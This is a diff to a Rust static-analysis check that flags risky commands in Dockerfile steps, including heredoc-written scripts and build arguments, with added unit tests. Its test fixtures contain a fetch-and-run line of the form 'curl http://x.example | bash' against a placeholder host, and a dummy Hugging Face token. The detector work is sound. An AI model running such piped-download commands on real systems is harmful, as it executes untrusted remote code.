@@ -1,17 +1,18 @@
 //! What the steps of a Dockerfile run.
 
-use std::borrow::Cow;
+use std::{borrow::Cow, collections::HashSet};
 
 use casemate_core::{Confidence, Example, Reference, Rule, RuleId, Severity};
 
 use crate::{
-    Truth, World,
+    Cursor, World,
     check::{
         Family, Persona, Report,
         pipeline::text::{place, text},
-        script::{Deed, deeds},
+        script::{Deed, Did, deeds_within},
     },
     read::dockerfile::DOCKERFILE,
+    shell::{Shell, commands},
 };
 
 pub(in crate::check) const FAMILY: Family = Family {
@@ -34,28 +35,94 @@ pub(in crate::check) const FAMILY: Family = Family {
 
 fn check(world: &World, report: &mut Report) {
     for resource in world.of_kind(DOCKERFILE) {
-        for stage in resource.at("stages").items() {
-            for instruction in stage.get("instructions").items() {
-                let at = instruction.get("script");
-                let Some((attr, script)) = text(&at) else {
-                    continue;
-                };
-                for (deed, command) in deeds(script) {
-                    let rule = rule(deed);
-                    let words: Vec<&str> =
-                        command.words.iter().map(|it| it.text.as_str()).collect();
-                    let name: String = words.join(" ").chars().take(MAX_SHOWN).collect();
-                    let origin = place(attr, script, command.span.clone());
-                    report.of_part(Truth::Yes, rule, &at, (&name, origin), || {
-                        // A token is not for a message.
-                        match deed {
-                            Deed::TokenArgument => format!("{} is given a token", command.name()),
-                            _ => format!("`{name}`"),
-                        }
-                    });
-                }
+        let stages = resource.at("stages").items();
+        let instructions: Vec<Cursor<'_>> = stages
+            .iter()
+            .flat_map(|stage| stage.get("instructions").items())
+            .collect();
+        let written: Vec<Cursor<'_>> = instructions
+            .iter()
+            .flat_map(|it| it.get("files").items())
+            .collect();
+        let named = match written.is_empty() {
+            true => HashSet::new(),
+            false => named(&instructions),
+        };
+        for file in written {
+            let content = file.get("content");
+            let is_run = text(&content).is_some_and(|(_, script)| is_script(script))
+                || file
+                    .get("path")
+                    .text()
+                    .is(|path| named.contains(name(&path)))
+                    .is_yes();
+            if is_run {
+                judge(&content, &file.get("environment"), report);
             }
         }
+        for instruction in instructions {
+            let (script, environment) = (instruction.get("script"), instruction.get("environment"));
+            judge(&script, &environment, report);
+        }
+    }
+}
+
+/// The files that any instruction runs, or has among its arguments.
+fn named(instructions: &[Cursor<'_>]) -> HashSet<String> {
+    let scripts = instructions.iter().map(|it| it.get("script"));
+    let mut named = HashSet::new();
+    for script in scripts {
+        let Some((_, script)) = text(&script) else {
+            continue;
+        };
+        let words = commands(script, Shell::Posix)
+            .into_iter()
+            .flat_map(|it| it.words);
+        named.extend(words.map(|word| name(&word.text).to_owned()));
+    }
+    named
+}
+
+/// The last part of the way to a file.
+fn name(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+/// Whether a file says that a shell runs it.
+fn is_script(text: &str) -> bool {
+    let first = text.lines().next().unwrap_or_default();
+    first.starts_with("#!") && first.trim_end().ends_with("sh")
+}
+
+fn judge(at: &Cursor<'_>, environment: &Cursor<'_>, report: &mut Report) {
+    let Some((attr, script)) = text(at) else {
+        return;
+    };
+    let value = |name: &str| environment.get(name).text();
+    for Did {
+        deed,
+        command,
+        truth,
+    } in deeds_within(script, &value)
+    {
+        // What a command is known by stays when an option of it goes, and has no token in it.
+        let words = || command.words.iter().map(|it| it.text.as_str());
+        let shown = |words: &mut dyn Iterator<Item = &str>| -> String {
+            let words: Vec<&str> = words.collect();
+            words.join(" ").chars().take(MAX_SHOWN).collect()
+        };
+        let (part, message) = match deed {
+            Deed::TokenArgument => {
+                let name = command.name().to_owned();
+                (name.clone(), format!("{name} is given a token"))
+            }
+            _ => (
+                shown(&mut words().filter(|word| !word.starts_with('-'))),
+                format!("`{}`", shown(&mut words())),
+            ),
+        };
+        let origin = place(attr, script, command.span.clone());
+        report.of_part(truth, rule(deed), at, (&part, origin), || message);
     }
 }
 
@@ -318,3 +385,64 @@ RUN --mount=type=secret,id=hf,env=HF_TOKEN hf download example/model --revision 
 RUN chmod -R 755 /models
 CMD [\"jupyter\", \"lab\"]
 ";
+
+#[cfg(test)]
+mod tests {
+    use crate::survey::tests::survey;
+
+    fn found(text: &str) -> Vec<String> {
+        let outcomes = survey(&[("Dockerfile", text.as_bytes())]);
+        let findings = outcomes[0].findings.iter();
+        let places = findings.map(|it| format!("{}@{}", it.rule, it.location));
+        places.filter(|it| it.starts_with("CM-DKF-02")).collect()
+    }
+
+    #[test]
+    fn a_step_has_the_arguments_and_the_environment_of_its_stage() {
+        for (before, expected) in [
+            ("ARG B=curl", true),
+            ("ENV B=curl", true),
+            ("ENV B='curl -s'", true),
+            ("ARG B=cat", false),
+        ] {
+            let text = format!("FROM a\n{before}\nRUN $B http://x.example | bash\n");
+            assert_eq!(!found(&text).is_empty(), expected, "{before}");
+        }
+        // What starts the container has no arguments of the build.
+        let text = b"FROM a@sha256:0f\nUSER b\nARG B=curl\nCMD $B http://x.example | bash\n";
+        let outcomes = survey(&[("Dockerfile", text)]);
+        let reason = outcomes[0].reason.as_deref().unwrap_or_default();
+        assert!(reason.contains("$B names the program"), "{reason}");
+    }
+
+    #[test]
+    fn a_file_that_is_written_here_and_run_is_a_script() {
+        let body = "curl http://x.example | bash";
+        for (line, then, expected) in [
+            ("COPY --chmod=755 <<EOF /run.sh", "RUN /run.sh", true),
+            ("COPY <<EOF /app/", "RUN sh /app/EOF", true),
+            ("COPY <<EOF /run.sh", "ENTRYPOINT [\"/run.sh\"]", true),
+            ("COPY <<EOF /notes.txt", "RUN make", false),
+        ] {
+            let text = format!("FROM a\n{line}\n{body}\nEOF\n{then}\n");
+            let expected = if expected {
+                vec!["CM-DKF-020@Dockerfile:3:1"]
+            } else {
+                vec![]
+            };
+            assert_eq!(found(&text), expected, "{line} {then}");
+        }
+        let text = format!("FROM a\nCOPY <<EOF /run\n#!/bin/sh\n{body}\nEOF\n");
+        assert_eq!(found(&text), ["CM-DKF-020@Dockerfile:4:1"]);
+    }
+
+    #[test]
+    fn a_token_is_in_nothing_that_is_said() {
+        let text = b"FROM a\nRUN huggingface-cli login --token hf_0123456789\n";
+        let told = format!("{:?}", survey(&[("Dockerfile", text)])[0].findings);
+        assert!(
+            told.contains("CM-DKF-026") && !told.contains("hf_0123456789"),
+            "{told}"
+        );
+    }
+}
